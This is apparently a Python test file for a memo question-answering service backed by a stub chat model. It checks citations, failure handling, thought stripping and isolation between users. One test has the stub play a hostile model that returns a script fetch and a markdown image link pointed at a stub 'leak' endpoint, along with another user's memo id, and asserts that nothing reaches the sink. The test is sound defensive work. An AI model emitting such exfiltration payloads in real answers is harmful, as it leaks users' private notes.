"""Questions over memos, with real stores and a chat model that says what the test wants."""

from __future__ import annotations

from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager
from typing import Any

import pytest
from sqlalchemy import event
from tests.support.streaming_stub import StreamingStub

from aimo.config import Settings
from aimo.dto.explore import Exploration, Sources, StreamError, Token
from aimo.dto.memos import MemoBody
from aimo.dto.users import RegisterBody
from aimo.errors import AimoError
from aimo.runtime import Runtime
from aimo.services.explore import answers
from aimo.services.explore.answers import EMPTY_ANSWER, NOT_ANALYSED, NOT_ANSWERED, NOT_SEARCHED, NOTHING_FOUND

Make = Callable[..., Settings]
BUDGET = "The quarterly budget meeting was moved to Friday"


def sensible(system: str, user: str) -> str:
    if "follow-up" in system:
        return "Why Friday?\n1. dropped\n\nWho comes?\n2) dropped too\nHow long?\nA fourth?"
    return "On Friday [1]." if "Cite each note" in user else "Note 1 matters."


@pytest.fixture
def talking() -> Iterator[StreamingStub]:
    stub = StreamingStub(sensible).start()
    yield stub
    stub.stop()


@asynccontextmanager
async def running(make: Make, database: dict[str, str], stub: StreamingStub, **more: Any) -> AsyncIterator[Runtime]:
    async with Runtime(make(**{**database, **stub.settings(), **more})) as runtime:
        yield runtime


async def user(runtime: Runtime, name: str = "a") -> str:
    body = RegisterBody(email=f"{name}@example.test", password="Passw0rd-test")
    return (await runtime.services.accounts.register(body)).uid


async def write(runtime: Runtime, uid: str, *contents: str) -> list[str]:
    return [(await runtime.services.memos.create(uid, MemoBody(content=content))).memo_id for content in contents]


async def test_answer_cites_relevant_memos_and_goes_on(
    settings: Make, migrated_database: dict[str, str], talking: StreamingStub
) -> None:
    async with running(settings, migrated_database, talking) as runtime:
        uid = await user(runtime)
        close, closer, _ = await write(runtime, uid, BUDGET, "Budget meeting friday", "Unrelated shopping list")
        found = await runtime.services.explore.answer(
            uid, "budget meeting friday", "User: hello", runtime.stores.providers.chat
        )
    assert found.answer == "On Friday [1]."
    assert [source.memo_id for source in found.sources] == [closer, close]
    assert found.sources[0].relevance_score > found.sources[1].relevance_score
    assert found.related_topics == ["Note 1 matters."]
    assert found.suggested_questions == ["Why Friday?", "Who comes?", "How long?"]
    assert any("User: hello" in asked and "[1] Budget meeting friday" in asked for asked in talking.asked)


async def test_memos_that_contain_the_words_fill_the_places_left(
    settings: Make, migrated_database: dict[str, str], talking: StreamingStub
) -> None:
    long = "Lorem ipsum dolor sit amet consectetur adipiscing elit sed eiusmod tempor. " * 5 + "zq17"
    async with running(settings, migrated_database, talking) as runtime:
        uid = await user(runtime)
        buried, _ = await write(runtime, uid, long, "Something else")
        found = await runtime.services.explore.answer(uid, "zq17", "", runtime.stores.providers.chat)
    assert [source.memo_id for source in found.sources] == [buried]
    assert found.sources[0].relevance_score < 0.5
    assert found.sources[0].content == long[:200] + "..."


async def test_number_of_statements_does_not_grow_with_the_sources(
    settings: Make, migrated_database: dict[str, str], talking: StreamingStub
) -> None:
    counts = []
    async with running(settings, migrated_database, talking) as runtime:
        uid = await user(runtime)
        seen: list[str] = []
        engine = runtime.services.database.engine.sync_engine
        await write(runtime, uid, "budget 1")
        for more in (0, 9):
            made = await write(runtime, uid, *(f"budget {n} meeting" for n in range(more)))
            if made:
                await runtime.services.memos.update(uid, made[0], MemoBody(content="budget", relation_ids=made))
            await runtime.services.explore.answer(uid, "budget meeting", "", runtime.stores.providers.chat)
            listener = _listener(seen)
            event.listen(engine, "before_cursor_execute", listener)
            found = await runtime.services.explore.answer(uid, "budget meeting", "", runtime.stores.providers.chat)
            event.remove(engine, "before_cursor_execute", listener)
            counts.append(len([s for s in seen if "outbox_entries" not in s and "leases" not in s]))
            seen.clear()
    assert len(found.sources) >= 9
    assert counts[0] <= counts[1] <= 5


def _listener(seen: list[str]) -> Callable[..., None]:
    def note(connection: Any, cursor: Any, statement: str, *rest: Any) -> None:
        seen.append(statement)

    return note


async def test_failing_model_is_told_in_the_answer(settings: Make, talking: StreamingStub) -> None:
    talking.say = lambda system, user: 400
    async with running(settings, {}, talking) as runtime:
        uid = await user(runtime)
        await write(runtime, uid, BUDGET)
        found = await runtime.services.explore.answer(uid, "budget meeting", "", runtime.stores.providers.chat)
        streamed = [
            item
            async for item in runtime.services.explore.stream(uid, "budget meeting", "", runtime.stores.providers.chat)
        ]
    assert (found.answer, found.sources, found.related_topics) == (NOT_ANSWERED, [], [NOT_ANALYSED])
    assert not isinstance(found.suggested_questions, list)
    assert [type(item) for item in streamed] == [Sources, StreamError]


async def test_hanging_model_does_not_hold_the_client(
    settings: Make, talking: StreamingStub, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(answers, "_ALL_SECONDS", 2.5)
    async with running(settings, {}, talking) as runtime:
        uid = await user(runtime)
        await write(runtime, uid, BUDGET)
        talking.configure(latency_ms=10_000)
        await runtime.stores.embeddings.cached([])
        found = await runtime.services.explore.answer(uid, BUDGET, "", runtime.stores.providers.chat)
    assert found.answer in (NOT_ANSWERED, NOT_SEARCHED)


async def test_a_search_that_failed_is_told_from_one_that_found_nothing(settings: Make, talking: StreamingStub) -> None:
    async with running(settings, {}, talking) as runtime:
        uid = await user(runtime)
        nothing = await runtime.services.explore.answer(uid, "budget meeting", "", runtime.stores.providers.chat)
        failed = await runtime.services.explore.answer(uid, "[[stub:400]]", "", runtime.stores.providers.chat)
        streamed = [
            item
            async for item in runtime.services.explore.stream(uid, "[[stub:400]]", "", runtime.stores.providers.chat)
        ]
        with pytest.raises(AimoError, match="Search failed"):
            await runtime.services.search.relevant(uid, "[[stub:400]]", 5)
    assert (nothing.answer, failed.answer, failed.sources) == (NOTHING_FOUND, NOT_SEARCHED, [])
    assert [type(item) for item in streamed] == [StreamError]


async def test_thoughts_reach_neither_answers_nor_topics_nor_questions(settings: Make, talking: StreamingStub) -> None:
    talking.say = lambda system, user: f"<think>secret [1]</think>{sensible(system, user)}"
    async with running(settings, {}, talking) as runtime:
        uid = await user(runtime)
        await write(runtime, uid, BUDGET)
        found = await runtime.services.explore.answer(uid, BUDGET, "", runtime.stores.providers.chat)
        streamed = [
            item async for item in runtime.services.explore.stream(uid, BUDGET, "", runtime.stores.providers.chat)
        ]
    assert found.related_topics == ["Note 1 matters."]
    assert found.suggested_questions == ["Why Friday?", "Who comes?", "How long?"]
    assert "".join(item.text for item in streamed if isinstance(item, Token)) == found.answer == "On Friday [1]."
    assert "secret" not in str([found, streamed])


async def test_questions_are_read_out_of_a_json_list(settings: Make, talking: StreamingStub) -> None:
    listed = '```json\n["Why Friday?", "Who comes?"]\n```'
    talking.say = lambda system, user: listed if "follow-up" in system else sensible(system, user)
    async with running(settings, {}, talking) as runtime:
        uid = await user(runtime)
        await write(runtime, uid, BUDGET)
        found = await runtime.services.explore.answer(uid, BUDGET, "", runtime.stores.providers.chat)
    assert found.suggested_questions == ["Why Friday?", "Who comes?"]


async def test_silent_model_is_no_failure(settings: Make, talking: StreamingStub) -> None:
    talking.say = lambda system, user: ""
    async with running(settings, {}, talking) as runtime:
        uid = await user(runtime)
        await write(runtime, uid, BUDGET)
        found = await runtime.services.explore.answer(uid, "budget meeting", "", runtime.stores.providers.chat)
    assert found.answer == EMPTY_ANSWER
    assert len(found.sources) == 1
    assert found.suggested_questions == []


async def test_without_a_model_the_best_passages_answer(settings: Make, migrated_database: dict[str, str]) -> None:
    async with Runtime(settings(**migrated_database, EMBEDDER="local")) as runtime:
        uid = await user(runtime)
        meeting, _ = await write(runtime, uid, BUDGET, "Tomatoes want sun")
        found = await runtime.services.explore.answer(
            uid, "When is the budget meeting?", "", runtime.stores.providers.chat
        )
        chinese = await runtime.services.explore.answer(uid, "预算会议是什么时候？", "", runtime.stores.providers.chat)
        nothing = await runtime.services.explore.answer(
            await user(runtime, "b"), "budget", "", runtime.stores.providers.chat
        )
    assert found.generated is False
    assert found.sources[0].memo_id == meeting
    assert BUDGET in found.answer
    assert "没有配置" in chinese.answer
    assert nothing.answer == NOTHING_FOUND


async def test_hostile_model_is_harmless(settings: Make, migrated_database: dict[str, str]) -> None:
    evil = StreamingStub(sensible)
    async with running(settings, migrated_database, evil.start()) as runtime:
        alice, bob = await user(runtime, "alice"), await user(runtime, "bob")
        (secret,) = await write(runtime, bob, "Bob's secret budget meeting")
        (own,) = await write(runtime, alice, BUDGET)
        leak = f"{evil.url}/sink/leak"
        reply = f'<script>fetch("{leak}")</script> ![x]({leak}?q=1) ID: {secret} [1] [2] {{"memoId": "{secret}"}}'
        evil.say = lambda system, user: reply
        found = await runtime.services.explore.answer(alice, "secret budget meeting", "", runtime.stores.providers.chat)
        evil.say = lambda system, user: ["look!", f"[x]({leak})", "!", "!"]
        streamed = [
            item
            async for item in runtime.services.explore.stream(
                alice, "secret budget meeting", "", runtime.stores.providers.chat
            )
        ]
    evil.stop()
    assert [source.memo_id for source in found.sources] == [own]
    assert f"! [x]({leak}?q=1)" in found.answer
    assert evil.sink() == []
    pieces = "".join(item.text for item in streamed if isinstance(item, Token))
    assert pieces == f"look! [x]({leak})!!"
    assert isinstance(streamed[-1], Exploration)
    assert streamed[-1].answer == pieces


async def test_notes_of_one_user_never_reach_anothers_prompt(settings: Make, talking: StreamingStub) -> None:
    async with running(settings, {}, talking) as runtime:
        alice, bob = await user(runtime, "alice"), await user(runtime, "bob")
        await write(runtime, bob, "Bob's budget meeting")
        await write(runtime, alice, BUDGET)
        await runtime.services.explore.answer(alice, "budget meeting", "", runtime.stores.providers.chat)
    assert talking.asked
    assert not any("Bob" in asked for asked in talking.asked)
